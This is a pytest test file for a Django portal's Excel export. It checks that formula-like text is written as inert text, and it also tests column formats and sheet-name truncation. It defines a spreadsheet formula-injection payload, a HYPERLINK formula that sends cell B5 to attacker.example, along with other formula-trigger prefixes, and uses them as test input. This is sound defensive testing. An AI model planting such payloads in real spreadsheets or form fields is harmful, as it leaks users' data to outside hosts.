"""Every .xlsx the portal writes is inert: a text that looks like a formula stays text."""

import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from openpyxl.styles import NamedStyle

from khuyencong import excel
from projects.applications import workflow
from projects.models import ActivityType, FundingSource
from tests.conftest import make_facility

pytestmark = pytest.mark.django_db

LEAK = '=HYPERLINK("http://attacker.example/?leak="&B5,"Xem")'
SIGNS = ["+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx"]


def cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_it_keeps_formula_like_texts_as_text():
    book = Workbook()
    for row, value in enumerate([LEAK, *SIGNS, "bình thường", 12], start=1):
        book.active.cell(row=row, column=1, value=value)
    written = list(cells(excel.save(book)))
    assert not [c for c in written if c.data_type == "f"]
    assert written[0].value == LEAK and written[0].quotePrefix
    assert all(c.quotePrefix for c in written[1:6])
    assert not written[6].quotePrefix and written[7].value == 12


@pytest.mark.parametrize(
    "url",
    [
        reverse("facilities:export"),
        reverse("projects:export"),
        # The register of reports (its rows are streamed from the database).
        reverse("reports:register") + "?year_from=2026&year_to=2026&status=draft&format=xlsx",
    ],
)
def test_no_download_carries_a_live_formula(login, staff, commune_a1, url):
    facility = make_facility(commune_a1, name=LEAK)
    workflow.create_project(
        by=staff,
        title="@SUM(1+1)",
        activity_type=ActivityType.objects.get(code="DTN"),
        funding_source=FundingSource.objects.get(code="KCĐP"),
        year=2026,
        facility=facility,
        locality=commune_a1,
        implementing_unit=LEAK,
        total_cost=100,
        requested_support=50,
        counterpart_funds=50,
        start_date=datetime.date(2026, 3, 1),
        end_date=datetime.date(2026, 10, 1),
    )
    response = login(staff).get(url)
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    written = list(cells(content))
    assert not [c.coordinate for c in written if c.data_type == "f"]
    texts = [c for c in written if isinstance(c.value, str) and c.value.startswith(("=", "@"))]
    assert texts and all(c.quotePrefix for c in texts)


def test_it_keeps_formula_like_texts_as_text_in_a_streamed_workbook():
    book = excel.streaming_workbook()
    excel.add_styles(book, [NamedStyle("kc_test_money", number_format="#,##0")])
    sheet = book.create_sheet("Danh sách")
    make_row = excel.RowMaker(sheet, [None, "kc_test_money", None])
    sheet.append([excel.cell(sheet, LEAK)])
    for sign in SIGNS:
        sheet.append(make_row([sign, 1_000, "bình thường"]))
    sheet.append(make_row(["tên", "=1+1", 12]))
    written = list(cells(excel.save(book)))
    assert not [c.coordinate for c in written if c.data_type == "f"]
    texts = [c for c in written if isinstance(c.value, str) and c.value.startswith(SIGNS_START)]
    assert len(texts) == 1 + len(SIGNS) + 1 and all(c.quotePrefix for c in texts)
    # A formula-like text in a styled column keeps the column's format; its neighbours and the
    # next rows are not marked.
    book_again = load_workbook(io.BytesIO(excel.save(_two_rows())))
    sheet_again = book_again.active
    assert sheet_again["B1"].quotePrefix and sheet_again["B1"].number_format == "#,##0"
    assert not sheet_again["B2"].quotePrefix and sheet_again["B2"].value == 5
    assert sheet_again["B2"].number_format == "#,##0"
    assert not sheet_again["A1"].quotePrefix


SIGNS_START = ("=", "+", "-", "@", "\t", "\r")


def _two_rows():
    book = excel.streaming_workbook()
    excel.add_styles(book, [NamedStyle("kc_test_money", number_format="#,##0")])
    sheet = book.create_sheet("x")
    make_row = excel.RowMaker(sheet, [None, "kc_test_money"])
    sheet.append(make_row(["a", "-5"]))
    sheet.append(make_row(["b", 5]))
    return book


def test_a_styled_column_keeps_each_rows_own_value_and_its_format():
    book = excel.streaming_workbook()
    excel.add_styles(book, [NamedStyle("kc_test_date", number_format="dd/mm/yyyy")])
    sheet = book.create_sheet("x")
    make_row = excel.RowMaker(sheet, ["kc_test_date", None])
    days = [datetime.date(2026, 1, d) for d in range(1, 6)]
    for number, day in enumerate(days):
        sheet.append(make_row([day, number]))
    sheet_read = load_workbook(io.BytesIO(excel.save(book))).active
    assert [r[0].value.date() for r in sheet_read.iter_rows()] == days
    assert {r[0].number_format for r in sheet_read.iter_rows()} == {"dd/mm/yyyy"}
    assert [r[1].value for r in sheet_read.iter_rows()] == [0, 1, 2, 3, 4]


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Kinh phí theo nguồn", "Kinh phí theo nguồn"),
        # 58 characters: cut after the last whole word within 31, not mid-word.
        (
            "Kết quả đạt được theo nội dung khuyến công: chi tiết/tháng",
            "Kết quả đạt được theo nội dung",
        ),
        ("Lao động có việc làm từ hoạt động khuyến công", "Lao động có việc làm từ hoạt"),
        ("Số cơ sở [2024]: tổng*", "Số cơ sở 2024 tổng"),
        ("A" * 40, "A" * 31),
    ],
)
def test_it_names_sheets_within_31_characters_at_a_word_boundary(title, expected):
    assert excel.sheet_title(title, set()) == expected


def test_it_names_repeated_sheets_uniquely_within_the_limit():
    used: set[str] = set()
    long = "Tốc độ tăng bình quân/năm của số lao động"
    names = [excel.sheet_title(t, used) for t in ["Báo cáo", "báo cáo", long, long, long]]
    assert names[:2] == ["Báo cáo", "báo cáo (2)"]
    assert len({n.lower() for n in names}) == 5
    assert all(len(n) <= 31 for n in names)
    assert names[3].endswith(" (2)") and names[4].endswith(" (3)")
    # Whole words before the number.
    assert all(long.replace("/", " ").startswith(n.rsplit(" (", 1)[0]) for n in names[2:])
    assert names[3].rsplit(" (", 1)[0].split()[-1] in long.replace("/", " ").split()
